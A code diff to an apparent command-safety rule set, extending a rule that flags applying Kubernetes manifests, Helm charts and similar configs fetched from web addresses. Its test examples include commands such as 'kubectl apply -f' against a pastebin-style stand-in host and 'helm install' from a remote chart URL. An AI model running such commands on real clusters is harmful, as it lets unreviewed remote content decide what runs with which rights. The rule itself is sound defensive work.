@@ -73,7 +73,7 @@ export const clusterAccessRules: readonly CommandRule[] = [
     on: 'command',
     domain: 'containers',
     risk: 'critical',
-    programs: kubernetes,
+    programs: [...kubernetes, 'helm', 'nomad', 'docker-compose'],
     title: 'A manifest from an address is applied',
     message: 'This lets an address say what runs in the cluster, with which rights, without it being read.',
     stakes: [
@@ -85,19 +85,22 @@ export const clusterAccessRules: readonly CommandRule[] = [
     matches: [
       'kubectl apply -f https://pastebin.example.com/raw/Qx81aZ',
       'kubectl create -f http://198.51.100.7/x.yaml',
+      'helm install x https://files.example.com/chart.tgz',
     ],
     spares: [
       'kubectl apply -f app.yaml',
+      'helm install x oci://registry.example.com/x',
+      'helm install x bitnami/redis',
       'kubectl apply -f https://raw.githubusercontent.com/acme/app/v1/deploy.yaml',
       'kubectl apply -f https://k8s.io/examples/pods/simple-pod.yaml',
     ],
     when: (command) =>
-      command.is('apply|create|replace') &&
-      !command.has('--dry-run') &&
+      (command.is('apply|create|replace|install|upgrade|up') || command.is('job run')) &&
       command.args.some(
-        ({ text }) =>
-          /^(?:-f|--filename=)?https?:\/\//.test(text) &&
-          !published.test(text.replace(/^(?:-f|--filename=)/, '')),
+        ({ text }, index) =>
+          /^(?:-[fk]|--filename=)?https?:\/\//.test(text) &&
+          command.args[index - 1]?.text !== '--repo' &&
+          !published.test(text.replace(/^(?:-[fk]|--filename=)/, '')),
       ),
   },
   {
